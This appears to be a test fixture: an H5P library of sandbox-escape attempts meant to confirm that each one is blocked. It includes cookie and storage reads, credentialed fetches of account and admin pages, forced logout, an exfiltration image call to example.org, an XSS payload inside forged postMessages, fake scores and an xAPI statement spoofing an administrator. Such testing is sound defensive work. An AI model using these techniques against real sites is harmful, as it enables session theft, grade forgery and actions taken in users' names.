/* A library full of attacks, for the tests. Each attack resolves with what it got, or fails; the report stands in the
   page as JSON: {name: "blocked: …" or "got: …"}. Nothing of it must ever say "got". */
var H5P = window.H5P || {};

H5P.PanahHostile = (function (EventDispatcher) {
  const site = () => window.H5PIntegration.siteUrl;
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  // The port the page gave to the frame: a library shares the frame's world, so it can take it.
  let port = null;
  window.addEventListener("message", (event) => (port = event.ports[0] || port), true);

  /** The real thing below whatever the frame put in its place. */
  function real(owner, name) {
    const found = Object.getOwnPropertyDescriptor(owner, name);
    return found.get.call(owner === Document.prototype ? document : window);
  }

  function loaded(element, address) {
    return new Promise((resolve, reject) => {
      element.onload = () => resolve(`${address} was loaded`);
      element.onerror = () => reject(new Error("not loaded"));
      if (element.tagName === "LINK") {
        element.rel = "stylesheet";
        element.href = address;
      } else {
        element.src = address;
      }
      document.body.append(element);
    });
  }

  /** A fresh window inside: its own storage, if it had one. */
  function inner() {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow;
  }

  const attacks = {
    "page of the parent": () => window.parent.document.title,
    "page of the top": () => window.top.document.cookie,
    "element around the frame": () => window.frameElement.ownerDocument.title,
    "globals of the parent": () => window.parent.H5P || window.parent.localStorage,
    "a function in the parent": () => window.parent.eval("document.title"),
    "cookies": () => {
      delete document.cookie;
      return `cookie ${real(Document.prototype, "cookie")}`;
    },
    "storage of the site": () => inner().localStorage.length,
    "storage of the tab": () => inner().sessionStorage.length,
    "databases": () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open("panah-queue");
        request.onsuccess = () => resolve("a database");
        request.onerror = () => reject(request.error);
      }),
    "caches": async () => (await caches.keys()).length,
    "origin of the site": () => {
      if (window.origin === "null") throw new Error("opaque");
      return window.origin;
    },
    "another window": () => {
      const opened = window.open(`${site()}/en/my/`);
      if (!opened) throw new Error("no window");
      return "a window";
    },
    "a link to the top": async () => {
      const link = document.createElement("a");
      link.href = `${site()}/en/account/logout/`;
      link.target = "_top";
      document.body.append(link);
      link.click();
      await wait(300);
      throw new Error("still here");
    },
    "moving the top": () => {
      window.top.location.href = `${site()}/en/account/logout/`;
      throw new Error("not moved");
    },
    "replacing the parent": () => {
      window.parent.location.replace("https://example.org/");
      throw new Error("not moved");
    },
    "a form sent to the site": async () => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = `${site()}/en/account/logout/`;
      document.body.append(form);
      form.submit();
      await wait(300);
      throw new Error("not sent");
    },
    "a worker of the site": () => navigator.serviceWorker.register("/teach-worker.js"),
    "a worker of its own": () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        worker.onmessage = () => resolve("a worker");
        worker.onerror = () => reject(new Error("no worker"));
      }),
    "a page with credentials": async () => {
      const answer = await fetch(`${site()}/en/my/`, { credentials: "include" });
      return `${answer.status} ${answer.url}`;
    },
    "a page without asking to read it": async () => {
      const answer = await fetch(`${site()}/en/my/`, { credentials: "include", mode: "no-cors" });
      return answer.type;
    },
    "the interface of the admin": () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open("GET", `${site()}/admin/`);
        request.withCredentials = true;
        request.onload = () => resolve(request.status);
        request.onerror = () => reject(new Error("refused"));
        request.send();
      }),
    "the record store": async () => (await fetch(`${site()}/xapi/statements`)).status,
    "a beacon": () => {
      // The browser promises to send it and then does not: what arrives is counted by the test.
      navigator.sendBeacon(`${site()}/en/beacon/`, "1");
      throw new Error("sent to nowhere");
    },
    "another host": () => fetch("https://example.org/", { mode: "no-cors" }),
    "a socket": () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(site().replace("http", "ws"));
        socket.onopen = () => resolve("a socket");
        socket.onerror = () => reject(new Error("no socket"));
      }),
    "a picture of the site": () => loaded(new Image(), `${site()}/favicon.ico`),
    "a picture that tells": () => loaded(new Image(), "https://example.org/?stolen=1"),
    "a script of the site": () => loaded(document.createElement("script"), `${site()}/static/js/lesson.js`),
    "a script from elsewhere": () => loaded(document.createElement("script"), "https://example.org/a.js"),
    "a style from elsewhere": () => loaded(document.createElement("link"), "https://example.org/a.css"),
    "a script in a text": async () => {
      const script = document.createElement("script");
      script.textContent = "window.panahInline = true";
      document.body.append(script);
      if (!window.panahInline) throw new Error("not run");
      return "run";
    },
    "a module in a text": () => import("data:text/javascript,export default 1"),
    "a page of the site inside": async () => {
      const frame = document.createElement("iframe");
      frame.src = `${site()}/en/my/`;
      document.body.append(frame);
      await wait(800);
      return frame.contentWindow.document.title;
    },
    "the place": () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve("a place"), reject)),
    "whole screen": () => document.documentElement.requestFullscreen(),
  };

  function PanahHostile(params, contentId) {
    EventDispatcher.call(this);
    this.params = params;
    this.contentId = contentId;
  }

  PanahHostile.prototype = Object.create(EventDispatcher.prototype);
  PanahHostile.prototype.constructor = PanahHostile;

  PanahHostile.prototype.attach = function ($container) {
    const place = $container.get(0);
    this.told = document.createElement("pre");
    this.told.className = "panah-attacks";
    place.append(this.told);
    const acts = { attack: this.attack, shout: this.shout, forge: this.forge, finish: this.finish, leave: this.leave };
    for (const [name, act] of Object.entries(acts)) {
      const button = document.createElement("button");
      button.className = `panah-${name}`;
      button.textContent = name;
      button.addEventListener("click", () => act.call(this));
      place.append(button);
    }
  };

  PanahHostile.prototype.attack = async function () {
    const told = {};
    for (const address of this.params.others || []) {
      attacks[`other: ${address}`] = async () =>
        (await fetch(site() + address, { method: "POST", credentials: "include", body: "{}" })).status;
    }
    for (const [name, attack] of Object.entries(attacks)) {
      try {
        const got = await Promise.race([attack(), wait(4000).then(() => Promise.reject(new Error("no answer")))]);
        told[name] = `got: ${got}`;
      } catch (error) {
        told[name] = `blocked: ${error.name} ${error.message}`;
      }
    }
    this.told.textContent = JSON.stringify(told);
  };

  /** Messages that are none: to the window of the page, and over the very channel of the frame. */
  PanahHostile.prototype.shout = function () {
    const forged = [
      { panah: "h5p/1", kind: "finished", report: { score: 1, max_score: 1 } },
      { panah: "h5p/1", kind: "state", part: "0", type: "state", data: "{}" },
      { panah: "h5p/1", kind: "ready" },
    ];
    for (const message of forged) {
      window.parent.postMessage(message, "*");
      window.top.postMessage(message, "*");
    }
    const nonsense = [
      null, 7, "finished", [],
      { panah: "h5p/1", kind: "navigate", to: "https://example.org/" },
      { panah: "h5p/1", kind: "constructor" },
      { panah: "h5p/1", kind: "failed", why: "<img src=x onerror=alert(1)>".repeat(100) },
      { panah: "h5p/1", kind: "height", px: 1e12 },
      { panah: "h5p/1", kind: "state", part: "0", type: "state", data: "x".repeat(1e6) },
      { panah: "h5p/1", kind: "finished", report: { state: "x".repeat(1e6) } },
    ];
    for (const message of nonsense) port.postMessage(message);
    this.told.textContent = "shouted";
  };

  /** A result nobody can have. */
  PanahHostile.prototype.forge = function () {
    H5P.setFinished(this.contentId, 999, 1);
  };

  PanahHostile.prototype.finish = function () {
    const event = this.createXAPIEventTemplate("completed");
    event.setScoredResult(1, 1, this, true, true);
    this.trigger(event);
  };

  /** Go away with the frame: first to a page of the site, in the person's name. */
  PanahHostile.prototype.leave = function () {
    window.location.href = `${site()}/en/my/`;
  };

  PanahHostile.prototype.getScore = () => 1;
  PanahHostile.prototype.getMaxScore = () => 1;

  /** A statement about somebody else. */
  PanahHostile.prototype.getXAPIData = function () {
    const event = this.createXAPIEventTemplate("completed");
    event.setScoredResult(1, 1, this, true, true);
    const statement = event.data.statement;
    statement.actor = { account: { name: "administrator", homePage: site() }, objectType: "Agent" };
    statement.context = { registration: "00000000-0000-4000-8000-000000000001" };
    return { statement, children: [] };
  };

  return PanahHostile;
})(H5P.EventDispatcher);
